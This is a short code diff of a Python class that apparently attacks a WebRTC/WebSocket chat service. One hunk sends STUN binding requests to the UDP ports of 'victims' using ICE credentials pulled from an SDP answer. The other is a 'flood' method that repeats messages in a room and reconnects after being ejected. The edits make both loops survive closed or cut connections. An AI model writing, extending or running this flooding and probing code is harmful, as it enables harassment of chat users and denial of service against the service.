@@ -118,7 +118,7 @@ class Deeds:
             self.counts["answered"] += 1
             remote = re.search(r"^a=ice-ufrag:(\S+)", answer, re.MULTILINE)[1]
             password = re.search(r"^a=ice-pwd:(\S+)", answer, re.MULTILINE)[1]
-            while not self.over and not ws.closed:
+            while not self.over and ws.close_code is None:
                 for port in udp_ports(self.victims):
                     request = stun.Message(message_method=stun.Method.BINDING, message_class=stun.Class.REQUEST)
                     request.attributes["USERNAME"] = f"{remote}:{offer.ufrag}"
@@ -340,7 +340,7 @@ class Deeds:
     async def flood(self, texts, identity):
         """Says these over and over; it is thrown out for it, and comes again."""
         while not self.over:
-            with contextlib.suppress(websockets.WebSocketException, asyncio.TimeoutError, OSError):
+            with contextlib.suppress(Exception):  # whatever the library makes of a connection that is cut while it sends
                 async with self.roost.connect(ROOM, max_size=2**22) as ws:
                     if identity:
                         await say(ws, type="auth", token=token(identity, ROOM))
